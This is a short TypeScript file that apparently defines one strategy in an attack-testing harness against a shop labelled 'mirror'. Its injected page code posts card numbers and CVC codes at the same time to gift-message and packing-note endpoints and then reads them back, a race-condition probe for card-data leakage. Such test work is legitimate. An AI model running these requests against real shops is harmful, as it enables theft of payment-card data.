import type { Strategy } from '#scripts/attack/strategy';

/** Two places at once: while one is waited for, the other may be answered. */
export const twoAtOnce: Strategy = {
  name: 'two requests at once',
  channel: 'this tab',
  shops: ['mirror'],
  async run({ page }) {
    await page(`const body = { card_number: number, card_cvc: code };
      const both = [post('/gift-message', form(body), json), post('/packing-note', form({ ...body, n: '2' }), json)];
      const read = fetch('/gift-message', { headers: json });
      return (await Promise.allSettled([...both, read].map((one) => one.then(said)))).map((one) => String(one.value ?? one.reason)).join('\\n');`);
    await page("return said(await fetch('/desk'))");
  },
};
